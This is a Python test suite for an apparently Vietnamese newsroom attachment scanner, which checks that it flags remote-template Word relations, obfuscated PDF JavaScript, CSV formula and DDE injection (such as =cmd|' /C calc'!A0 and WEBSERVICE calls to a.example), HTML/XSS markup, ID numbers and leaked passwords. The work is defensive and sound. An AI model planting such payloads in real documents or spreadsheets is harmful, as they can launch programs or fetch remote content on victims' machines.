"""Harm is found in every writing: other quotes, prefixes, encodings, filters and separators; harmless files like it pass."""

import base64
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.newsroom.checks.attachments.files import RELATIONS, WORD, docx, pdf
from tests.newsroom.checks.attachments.test_every_kind import trouble_in

CALLS = ["=HYPERLINK(", "=1+hyperlink (", "@SUM(1)*WEBSERVICE(", "+IMPORTXML(", "-RTD("]
prefixes = st.sampled_from(["w", "x", "ns0", "W-1"])
encodings = st.sampled_from(["utf-8", "utf-16", "utf-8-sig"])
away = st.sampled_from(
    ["http://a.example/x", "HTTPS://a.example/x", "file://may-la/x.dotm", "file://///1.2.3.4/x", r"\\may\x", "//a.example/x"]
)


@given(prefixes, encodings, st.sampled_from(["'", '"']), away, st.sampled_from(["attachedTemplate", "frame", "subDocument"]))
def test_a_document_that_fetches_is_refused_however_its_relations_are_written(prefix, encoding, quote, target, kind):
    attributes = {"TargetMode": "External", "Target": target, "Type": f"{RELATIONS}/{kind}", "Id": "a"}
    written = "\n".join(f"{name} = {quote}{value}{quote}" for name, value in attributes.items())
    xml = f'<{prefix}:Relationships xmlns:{prefix}="r"><{prefix}:Relationship {written}/></{prefix}:Relationships>'
    assert "tự lấy" in trouble_in(".docx", docx(**{"word___rels__settings.xml.rels": xml.encode(encoding)}))


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("hyperlink", "https://langson.gov.vn"),
        ("attachedTemplate", "file:///C:/Mau/Normal.dotm"),
        ("attachedTemplate", "Normal.dotm"),
    ],
)
def test_links_and_a_template_on_the_writer_s_disk_are_no_fetching(kind, target):
    xml = f'<Relationships><Relationship Id="a" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    assert trouble_in(".docx", docx(**{"word___rels__settings.xml.rels": xml})) == ""


@given(prefixes, encodings, st.integers(1, 11))
def test_a_citizen_s_number_is_found_in_a_document_of_any_writing(prefix, encoding, cut):
    words = "Số 001099012345"
    runs = "".join(f"<{prefix}:r><{prefix}:t>{run}</{prefix}:t></{prefix}:r>" for run in (words[: 3 + cut], words[3 + cut :]))
    xml = f'<{prefix}:document xmlns:{prefix}="{WORD}"><{prefix}:p>{runs}</{prefix}:p></{prefix}:document>'
    assert "tuỳ thân" in trouble_in(".docx", docx(**{"word__document.xml": xml.encode(encoding)}))


@pytest.mark.parametrize(
    "writing",
    [
        b"<</S/JavaScript/JS(app.alert\\(1\\))>>",
        b"<</S %ghi chu\n /JavaScript /JS 9 0 R>>",
        b"<</S\x00/J#61vaScript/#4AS<61>>>",
    ],
)
@pytest.mark.parametrize("packing", ["plain", "flate", "far", "hex", "base 85"])
def test_a_script_in_a_pdf_is_found_or_its_packing_refused(writing, packing):
    flate = zlib.compress(b"6 0 " + writing)
    body, keys = {
        "plain": (b"", b""),
        "flate": (flate, b"/Filter/FlateDecode"),
        "far": (flate, b"/Filter/FlateDecode/X(" + b"a" * 9000 + b")"),
        "hex": (flate.hex().encode() + b">", b"/Filter[/ASCIIHexDecode/FlateDecode]"),
        "base 85": (base64.a85encode(writing) + b"~>", b"/Filter /A85"),
    }[packing]
    stream = b"5 0 obj<</Type/ObjStm/N 1/First 4" + keys + b">>stream\n" + body + b"\nendstream endobj"
    assert trouble_in(".pdf", pdf(stream if body else b"5 0 obj" + writing + b"endobj"))


def test_a_pdf_that_speaks_of_scripts_has_none():
    assert trouble_in(".pdf", pdf(b"5 0 obj<</Title(Lap trinh TypeScript/JavaScript)/Keywords(/JS /JavaScript)>>endobj")) == ""


@given(st.sampled_from(CALLS), st.sampled_from([",", ";", "\t"]), st.booleans(), st.integers(0, 3))
def test_a_table_that_calls_out_is_refused_with_its_line(call, separator, quoted, before):
    cell = f'{call}"http://a.example","Xem")'
    written = '"' + cell.replace('"', '""') + '"' if quoted else cell
    table = "".join(f"dòng{separator}{number}\n" for number in range(before)) + f"a{separator}{written}\n"
    assert f"dòng {before + 1} có công thức" in trouble_in(".csv", table.encode())


@pytest.mark.parametrize("cell", ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!$A$1", '"=MSEXCEL|a!A1"'])
def test_a_table_that_opens_a_program_is_refused(cell):
    assert "công thức" in trouble_in(".csv", f"a,b\n1,{cell}\n".encode())


@pytest.mark.parametrize(
    "line", ["- bảng | cột!a,-5", "+84 205 (máy lẻ 1) | gọi!", "-5,+3,=SUM(A1:A2)", '"- việc (gọi điện)"', "a|b|c!"]
)
def test_an_ordinary_table_calls_nobody(line):
    assert trouble_in(".csv", f"a,b\n{line}\n".encode()) == ""


@given(
    st.sampled_from(["", "\ufeff", "\n ", "<!-- a -->", '<?xml version="1.0"?>']),
    st.sampled_from(
        ["<input autofocus>", "<object data=x>", "<x tabindex=1 onfocus=alert(1)>", "<h:script xmlns:h='x'>", "<base href=x>"]
    ),
)
def test_a_text_that_begins_as_a_page_is_refused(before, markup):
    assert "trang web" in trouble_in(".txt", f"{before}{markup}".encode())


@pytest.mark.parametrize("text", ["<Tên đơn vị> báo cáo", "<a@b.vn> viết", "< 5% onsite = 1", "<Ông A> on = off"])
def test_angle_brackets_alone_are_no_page(text):
    assert trouble_in(".txt", text.encode()) == ""


@pytest.mark.parametrize("text", ["CCCD: 001.099.012.345", "căn cước số 0010 9901 2345", "số định danh: 0010.9901.2345"])
def test_a_citizen_s_number_in_groups_is_found_behind_words_that_ask_for_it(text):
    assert "tuỳ thân" in trouble_in(".txt", text.encode())


@pytest.mark.parametrize("text", ["Tài khoản 0010 9901 2345", "CCCD cấp cho 1.099.012.345 đồng", "gọi 0912 3456 789"])
def test_accounts_and_sums_in_groups_are_no_papers(text):
    assert trouble_in(".txt", text.encode()) == ""


def test_an_address_with_a_password_is_refused_without_repeating_it():
    message = trouble_in(".txt", b"postgresql://quan-tri:mat-khau@10.0.0.1/so-lieu")
    assert "mật khẩu" in message
    assert "mat-khau" not in message
